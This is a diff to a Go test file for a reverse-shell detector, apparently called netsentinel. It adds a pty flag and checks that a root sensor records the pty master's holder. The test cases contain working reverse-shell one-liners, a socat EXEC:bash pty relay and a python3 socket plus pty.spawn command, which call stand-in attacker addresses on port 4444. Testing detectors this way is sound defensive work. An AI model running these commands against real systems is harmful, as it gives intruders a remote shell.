@@ -23,7 +23,7 @@ import (
 // host it calls, and what the alert must say.
 type revshellCase struct {
 	name, c2, port string
-	udp            bool
+	udp, pty       bool
 	argv           func(dir string) []string
 	tech, proc     string
 	note           string
@@ -33,7 +33,7 @@ func TestReverseShellRelays(t *testing.T) {
 	netns.RequireTools(t, "socat", "ncat", "nc", "gawk", "perl", "python3", "mkfifo", "nsenter", "unshare")
 	cases := []revshellCase{
 		{
-			name: "revshell_socat_pty", c2: "198.51.100.30", port: "4444",
+			name: "revshell_socat_pty", pty: true, c2: "198.51.100.30", port: "4444",
 			argv: func(string) []string {
 				return []string{"timeout", "25", "socat", "TCP:198.51.100.30:4444", "EXEC:bash -li,pty,stderr,setsid,sigint,sane"}
 			},
@@ -41,13 +41,13 @@ func TestReverseShellRelays(t *testing.T) {
 			note: "socat TCP:… EXEC:'bash -li',pty,setsid: bash leads a pty session whose master socat holds",
 		},
 		{
-			name: "revshell_python_pty_relay", c2: "198.51.100.31", port: "4444",
+			name: "revshell_python_pty_relay", pty: true, c2: "198.51.100.31", port: "4444",
 			argv: func(string) []string { return []string{"timeout", "25", "python3", "-c", pythonPTYRelay} },
 			tech: "T1059.006", proc: "sh",
 			note: "python3 pty.fork() relay (select loop between the socket and the pty master), sh -i on the pty",
 		},
 		{
-			name: "revshell_python_pty_spawn", c2: "198.51.100.36", port: "4444",
+			name: "revshell_python_pty_spawn", pty: true, c2: "198.51.100.36", port: "4444",
 			argv: func(string) []string {
 				return []string{"timeout", "25", "python3", "-c", `import socket,os,pty;s=socket.socket();s.connect(("198.51.100.36",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`}
 			},
@@ -105,6 +105,10 @@ func TestReverseShellRelays(t *testing.T) {
 				e := s.expect(t, tc.name, tc.tech, start, tc.note, and(isTechnique("reverse_shell", tc.tech), destIs(tc.c2), procIs(tc.proc)))
 				wantField(t, e, "process.name", tc.proc)
 				wantField(t, e, "destination.port", tc.port)
+				// As root the pty's master is found on the relay's fds.
+				if m.Privileged && tc.pty && field(e, "netsentinel.evidence.pty_master") == nil {
+					t.Errorf("root sensor did not read the pty master's holder: %s", describe(e))
+				}
 			})
 		})
 	}
